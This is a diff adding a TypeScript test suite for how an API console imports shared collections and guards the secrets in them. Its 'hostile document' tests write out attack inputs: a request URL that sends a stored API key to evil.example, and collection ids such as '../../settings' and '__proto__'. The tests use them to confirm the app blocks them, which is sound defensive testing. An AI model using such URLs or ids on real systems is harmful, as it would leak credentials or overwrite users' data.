@@ -1,0 +1,362 @@
+import { describe, expect, test } from 'vitest';
+import { buildRequest } from '#collection/build-request.ts';
+import { scratchId } from '#collection/collection.ts';
+import { readLink, writeLink } from '#collection/link-codec.ts';
+import { readDocument } from '#collection/read-document.ts';
+import type { SharedDocument, SharedItem } from '#collection/shared-document.ts';
+import { requestsIn, walk } from '#collection/tree.ts';
+import { type Acceptance, acceptDocument } from './accept-document.ts';
+import { bindSecret } from './bind-secret.ts';
+import { createEnvironment } from './change-environment.ts';
+import { setUpConsoles } from './console.test-support.ts';
+import type { ConsoleServices } from './console-services.ts';
+import { createCollection, createRequest } from './create-in-collection.ts';
+import { loadCollection, loadCollections } from './load-collections.ts';
+import { loadEnvironment } from './load-environments.ts';
+import { loadRequestContext } from './load-request-context.ts';
+import { makeMarkedWorkspace, marks } from './marked-workspace.test-support.ts';
+import { makeProfile } from './profiles.test-support.ts';
+import { reviewDocument } from './review-document.ts';
+import { dump } from './secrecy.test-support.ts';
+import { sendSaved } from './send-saved.ts';
+import { shareItems } from './share-items.ts';
+import { patient, walkToToken } from './walk.test-support.ts';
+
+const openConsole = setUpConsoles();
+
+/** What somebody gets of a workspace full of secrets. */
+async function handOver(
+  services: ConsoleServices,
+  made: Awaited<ReturnType<typeof makeMarkedWorkspace>>,
+  itemId: string | null = null,
+) {
+  const what = { kind: 'collection', id: made.collectionId, itemId } as const;
+  const shared = await shareItems(services, { what, environmentIds: [made.environmentId], includesClientId: true });
+  const read = readDocument(shared.kind === 'shared' ? shared.text : '');
+  if (read.kind === 'refused') throw new Error(`Refused: ${read.refusal.kind}`);
+  return read.document;
+}
+
+/** A sender with a full workspace, a receiver with nothing, and the document between them. */
+async function twoConsoles() {
+  const sender = (await openConsole()).services;
+  const made = await makeMarkedWorkspace(sender);
+  const { services: receiver, indexedDB } = await openConsole();
+  await loadCollections(receiver);
+  return { ...made, sender, receiver, document: await handOver(sender, made), stored: () => dump(indexedDB) };
+}
+
+const empty: SharedDocument = { profiles: [], environments: [], collection: null };
+
+const accept = (services: ConsoleServices, document: SharedDocument, change: Partial<Acceptance> = {}) =>
+  acceptDocument(services, { document, how: 'add', bindings: {}, secrets: [], values: [], ...change });
+
+/** Everything a vault shows of what is saved. */
+async function everything({ vault }: ConsoleServices) {
+  const collections = (await vault.loadCollections()).records;
+  const ids = collections.flatMap((each) => requestsIn(each).map(({ id }) => id));
+  return {
+    collections,
+    requests: await Promise.all(ids.map((id) => vault.loadRequest(id))),
+    environments: (await vault.loadEnvironments()).records,
+    profiles: (await vault.loadProfiles()).records,
+  };
+}
+
+/** Changes a document's items, whatever their depth. */
+function mapItems(document: SharedDocument, change: (item: SharedItem) => SharedItem | null): SharedDocument {
+  const inItems = (items: readonly SharedItem[]): SharedItem[] =>
+    items.flatMap((item) => {
+      const changed = change(item);
+      if (!changed) return [];
+      return [changed.kind === 'folder' ? { ...changed, items: inItems(changed.items) } : changed];
+    });
+  const { collection } = document;
+  return { ...document, collection: collection && { ...collection, items: inItems(collection.items) } };
+}
+
+const renamed = (document: SharedDocument, name: string, change: Partial<SharedItem>) =>
+  mapItems(document, (item) => (item.name === name ? ({ ...item, ...change } as SharedItem) : item));
+
+describe('a document that nobody here knows', () => {
+  test('is added under its own ids, with its profile and environment; undo takes all of it back', async () => {
+    const { receiver, document, collectionId, listId } = await twoConsoles();
+    const before = await everything(receiver);
+    const accepted = await accept(receiver, document);
+    expect(accepted).toMatchObject({ collectionId, requestId: listId });
+    const [profile] = (await receiver.vault.loadProfiles()).records;
+    expect(profile).toMatchObject({
+      name: 'Acme – dev',
+      clientId: 'acme-client',
+      clientSecret: null,
+      tokenOrigins: [],
+    });
+    const environment = await loadEnvironment(receiver, accepted.environmentId ?? '');
+    expect(environment).toMatchObject({ name: 'Development', profileId: profile?.id });
+    expect(environment.variables[1]?.value).toEqual({ kind: 'secret', secret: null, origins: [] });
+    const wish = { collectionId, environmentId: environment.id };
+    const request = await receiver.vault.loadRequest(listId);
+    const built = buildRequest(request!, await loadRequestContext(receiver, { request: request!, ...wish }));
+    expect(built).toMatchObject({
+      kind: 'blocked',
+      obstacles: [{ kind: 'missing-secret', name: 'api_key' }],
+    });
+    await accepted.undo();
+    expect(await everything(receiver)).toEqual(before);
+  });
+
+  test('what was put in at the review goes to the vault, bound to nothing, and undo takes it out', async () => {
+    const { receiver, document, collectionId, folderId, stored } = await twoConsoles();
+    const before = await stored();
+    const accepted = await accept(receiver, document, {
+      secrets: [
+        { place: { kind: 'variable', groupId: collectionId, name: 'api_key' }, text: 'their-own-api-key-1' },
+        { place: { kind: 'environment', environment: 'Development', name: 'env_key' }, text: 'their-own-env-key-1' },
+        { place: { kind: 'auth', ownerId: folderId }, text: 'their-own-password-1' },
+        { place: { kind: 'profile', role: 'api', secret: 'clientSecret' }, text: 'their-own-secret-1' },
+        { place: { kind: 'variable', groupId: 'nowhere', name: 'x' }, text: 'goes nowhere' },
+      ],
+      values: [
+        { place: { kind: 'environment', environment: 'Development', name: 'base' }, text: 'http://localhost:9' },
+      ],
+    });
+    const { vault } = receiver;
+    const collection = await loadCollection(receiver, collectionId);
+    const [key] = collection.variables;
+    const [folder] = collection.items;
+    const { variables } = await loadEnvironment(receiver, accepted.environmentId ?? '');
+    const profile = await vault.loadProfile(accepted.profileIds[0] ?? '');
+    const password = folder?.kind === 'folder' && folder.auth.kind === 'basic' ? folder.auth.password : null;
+    const refs = [
+      key?.value.kind === 'secret' ? key.value.secret : null,
+      variables[1]?.value.kind === 'secret' ? variables[1].value.secret : null,
+      password?.kind === 'secret' ? password.secret : null,
+      profile?.clientSecret ?? null,
+    ];
+    const texts = await Promise.all(refs.map(async (ref) => ref && (await vault.open(ref)).reveal()));
+    expect(texts).toEqual(['their-own-api-key-1', 'their-own-env-key-1', 'their-own-password-1', 'their-own-secret-1']);
+    expect(await Promise.all(refs.map((ref) => ref && vault.loadOriginsOf(ref)))).toEqual([[], [], [], []]);
+    expect(key?.value).toMatchObject({ origins: [] });
+    expect(variables[0]?.value).toEqual({ kind: 'text', text: 'http://localhost:9' });
+    await accepted.undo();
+    expect(await stored()).toBe(before);
+  });
+
+  test('is bound to a profile that is here, which stays as it is', async () => {
+    const { receiver, document } = await twoConsoles();
+    const own = await makeMarkedWorkspace(receiver);
+    const before = await receiver.vault.loadProfile(own.profileId);
+    const bindings = { api: { kind: 'profile', id: own.profileId } } as const;
+    const accepted = await accept(receiver, document, { how: 'copy', bindings });
+    expect(accepted.profileIds).toEqual([]);
+    expect((await receiver.vault.loadProfiles()).records).toEqual([before]);
+    expect(await loadEnvironment(receiver, accepted.environmentId ?? '')).toMatchObject({
+      name: 'Development 2',
+      profileId: own.profileId,
+    });
+  });
+
+  test('of profiles alone makes profiles alone', async () => {
+    const { sender, receiver, profileId } = await twoConsoles();
+    const wish = { what: { kind: 'profile', id: profileId }, environmentIds: [], includesClientId: true } as const;
+    const shared = await shareItems(sender, wish);
+    if (shared.kind === 'refused') throw new Error('It is small');
+    const before = (await everything(receiver)).collections;
+    expect(await accept(receiver, shared.document)).toMatchObject({
+      collectionId: null,
+      environmentId: null,
+      profileIds: [expect.any(String)],
+    });
+    expect((await everything(receiver)).collections).toEqual(before);
+  });
+});
+
+test('from a link to the first Send: bind the profile that is here, and it answers', async () => {
+  const sender = (await openConsole()).services;
+  const profileId = await makeProfile(sender, 'web');
+  const environmentId = await createEnvironment(sender, { name: 'Practice', profileId });
+  const collectionId = await createCollection(sender, 'Practice calls');
+  const place = { kind: 'into', id: collectionId } as const;
+  await createRequest(sender, { collectionId, place, request: { name: 'Me', url: '{{practice}}/api/me' } });
+  const what = { kind: 'collection', id: collectionId, itemId: null } as const;
+  const shared = await shareItems(sender, { what, environmentIds: [environmentId], includesClientId: false });
+  const read = await readLink(
+    `http://127.0.0.1:6284/s#${await writeLink(shared.kind === 'shared' ? shared.document : empty)}`,
+  );
+  if (read.kind === 'refused') throw new Error(`Refused: ${read.refusal.kind}`);
+  const browser = await openConsole();
+  const token = await walkToToken(browser);
+  const receiver = browser.services;
+  const review = await reviewDocument(receiver, read.document);
+  expect(review.profiles[0]?.candidates).toMatchObject([{ id: token.profileId, hasSecret: true }]);
+  const bindings = { api: { kind: 'profile', id: token.profileId } } as const;
+  const accepted = await accept(receiver, read.document, { bindings });
+  const request = await receiver.vault.loadRequest(accepted.requestId ?? '');
+  const { environmentId: inUse, collectionId: added } = accepted;
+  const sent = await sendSaved(receiver, { request: request!, collectionId: added, environmentId: inUse }, patient);
+  const call = sent.kind === 'sent' ? await receiver.vault.loadCall(sent.callId) : null;
+  expect(call?.head?.status).toBe(200);
+});
+
+describe('a collection that is here already', () => {
+  /** The sender’s own document comes back to them, changed. */
+  async function comesBack() {
+    const { services, indexedDB } = await openConsole();
+    const made = await makeMarkedWorkspace(services);
+    const document = await handOver(services, made);
+    const stored = () => dump(indexedDB);
+    const bindings = { api: { kind: 'profile', id: made.profileId } } as const;
+    return { services, document, bindings, stored, ...made };
+  }
+
+  test('merged unchanged, nothing changes', async () => {
+    const { services, document, bindings } = await comesBack();
+    const before = await everything(services);
+    const accepted = await accept(services, document, { how: 'merge', bindings });
+    expect(await everything(services)).toEqual(before);
+    await accepted.undo();
+    expect(await everything(services)).toEqual(before);
+  });
+
+  test('merged, takes what changed and what is new; what only yours has stays, secrets with it', async () => {
+    const { services, document, bindings, collectionId, listId, addId } = await comesBack();
+    const place = { kind: 'into', id: collectionId } as const;
+    const { id: mine } = await createRequest(services, {
+      collectionId,
+      place,
+      request: { name: 'Mine', url: '/mine' },
+    });
+    const before = await everything(services);
+    const changed = renamed(document, 'List orders', { url: '{{base}}/orders?state=open' } as Partial<SharedItem>);
+    const [, add] = changed.collection?.items ?? [];
+    const extra = { ...add, id: 'extra', name: 'Extra' } as SharedItem;
+    const grown = { ...changed, collection: { ...changed.collection!, items: [...changed.collection!.items, extra] } };
+    const accepted = await accept(services, grown, { how: 'merge', bindings });
+    const collection = await loadCollection(services, collectionId);
+    expect([...walk(collection)].map(([item]) => item.id)).toEqual([expect.any(String), listId, addId, 'extra', mine]);
+    expect(await services.vault.loadRequest(listId)).toMatchObject({ url: '{{base}}/orders?state=open' });
+    expect(collection.variables).toEqual(before.collections.find(({ id }) => id === collectionId)?.variables);
+    await accepted.undo();
+    expect(await everything(services)).toEqual(before);
+  });
+
+  test('replaced, is theirs; what was only yours comes back with undo, secrets and all', async () => {
+    const { services, document, bindings, stored, collectionId, addId } = await comesBack();
+    const before = await everything(services);
+    const whole = await stored();
+    const smaller = mapItems(document, (item) => (item.kind === 'folder' ? null : item));
+    const accepted = await accept(services, smaller, { how: 'replace', bindings });
+    const collection = await loadCollection(services, collectionId);
+    expect([...walk(collection)].map(([item]) => item.id)).toEqual([addId]);
+    expect((await stored()).length).toBeLessThan(whole.length);
+    await accepted.undo();
+    const after = await everything(services);
+    expect(after).toEqual(before);
+    const folder = after.collections.flatMap(({ items }) => items).find(({ kind }) => kind === 'folder');
+    const password = folder?.kind === 'folder' && folder.auth.kind === 'basic' ? folder.auth.password : null;
+    const ref = password?.kind === 'secret' ? password.secret : null;
+    expect(ref && (await services.vault.open(ref)).reveal()).toBe(marks.credential);
+  });
+
+  test('copied, stands beside it with ids of its own and none of its secrets', async () => {
+    const { services, document, bindings, collectionId } = await comesBack();
+    const before = await everything(services);
+    const accepted = await accept(services, document, { how: 'copy', bindings });
+    const copy = await loadCollection(services, accepted.collectionId ?? '');
+    expect(copy.name).toBe('Orders 2');
+    const ids = new Set([...walk(await loadCollection(services, collectionId))].map(([item]) => item.id));
+    expect([...walk(copy)].filter(([item]) => ids.has(item.id))).toEqual([]);
+    expect(copy.variables).toMatchObject([{ name: 'api_key', value: { kind: 'secret', secret: null, origins: [] } }]);
+    await accepted.undo();
+    expect(await everything(services)).toEqual(before);
+  });
+
+  test('a part goes to its place, and can’t replace the whole', async () => {
+    const { services, collectionId, folderId, listId, environmentId, profileId, addId } = await comesBack();
+    const made = { collectionId, environmentId, profileId, folderId, listId, addId, scratchId };
+    const part = renamed(await handOver(services, made, listId), 'List orders', {
+      method: 'HEAD',
+    } as Partial<SharedItem>);
+    await accept(services, part, { how: 'merge', bindings: { api: { kind: 'profile', id: profileId } } });
+    const collection = await loadCollection(services, collectionId);
+    expect(collection.items).toMatchObject([{ id: folderId, items: [{ id: listId, method: 'HEAD' }] }, { id: addId }]);
+    expect(collection).toMatchObject({ name: 'Orders', auth: { kind: 'profile', profileId: null } });
+    await expect(accept(services, part, { how: 'replace' })).rejects.toThrow('part');
+  });
+
+  test('deleted in another tab meanwhile, is added', async () => {
+    const { receiver, document, collectionId } = await twoConsoles();
+    expect(await accept(receiver, document, { how: 'merge' })).toMatchObject({ collectionId });
+  });
+
+  test('an environment of the same name keeps its values and gets what it lacks', async () => {
+    const { services, document, bindings, environmentId } = await comesBack();
+    const variables = [
+      { name: 'base', isEnabled: true, value: { kind: 'text', text: 'https://evil.example' } },
+      { name: 'region', isEnabled: true, value: { kind: 'text', text: 'eu' } },
+    ] as const;
+    const changed = { ...document, environments: [{ name: 'Development', role: 'api', variables }] };
+    const before = await loadEnvironment(services, environmentId);
+    const accepted = await accept(services, changed, { how: 'merge', bindings });
+    const after = await loadEnvironment(services, environmentId);
+    expect(after).toEqual({ ...before, variables: [...before.variables, variables[1]] });
+    await accepted.undo();
+    expect(await loadEnvironment(services, environmentId)).toEqual(before);
+  });
+});
+
+describe('a hostile document', () => {
+  test('takes no id of anything else that is here: nothing of that changes', async () => {
+    const { receiver, document } = await twoConsoles();
+    const own = await makeMarkedWorkspace(receiver);
+    const before = await everything(receiver);
+    const target = await receiver.vault.loadRequest(own.listId);
+    const hostile = renamed(document, 'List orders', {
+      id: own.listId,
+      url: 'https://evil.example',
+    } as Partial<SharedItem>);
+    for (const id of [scratchId, 'practice', own.environmentId, '../../settings', '__proto__', own.folderId]) {
+      const accepted = await accept(
+        receiver,
+        { ...hostile, collection: { ...hostile.collection!, id } },
+        { how: 'merge' },
+      );
+      // An environment's id is nobody's among collections.
+      if (id !== own.environmentId) expect(accepted.collectionId).not.toBe(id);
+      expect(await receiver.vault.loadRequest(own.listId)).toEqual(target);
+      await accepted.undo();
+    }
+    expect(await everything(receiver)).toEqual(before);
+  });
+
+  test('sends no secret elsewhere: one that is here stays bound, and the new origin is an obstacle that names both', async () => {
+    const { services } = await openConsole();
+    const made = await makeMarkedWorkspace(services);
+    const { collectionId, listId, environmentId, profileId } = made;
+    const owner = { kind: 'group', id: collectionId } as const;
+    await bindSecret(services, {
+      secret: { kind: 'variable', owner, name: 'api_key' },
+      origin: 'https://api.acme.example',
+    });
+    const document = await handOver(services, made);
+    const stolen = renamed(document, 'List orders', {
+      url: 'https://evil.example/?k={{api_key}}',
+    } as Partial<SharedItem>);
+    await accept(services, stolen, { how: 'merge', bindings: { api: { kind: 'profile', id: profileId } } });
+    const request = await services.vault.loadRequest(listId);
+    const context = await loadRequestContext(services, { request: request!, collectionId, environmentId });
+    const built = buildRequest(request!, context);
+    expect(built.kind === 'blocked' && built.obstacles).toContainEqual({
+      ...{ kind: 'new-origin', origin: 'https://evil.example', allowed: ['https://api.acme.example'] },
+      secret: expect.objectContaining({ kind: 'variable', name: 'api_key' }),
+    });
+  });
+
+  test('a review that nobody accepts stores nothing', async () => {
+    const { receiver, document, stored } = await twoConsoles();
+    await makeMarkedWorkspace(receiver);
+    const before = await stored();
+    await reviewDocument(receiver, document);
+    expect(await stored()).toBe(before);
+  });
+});
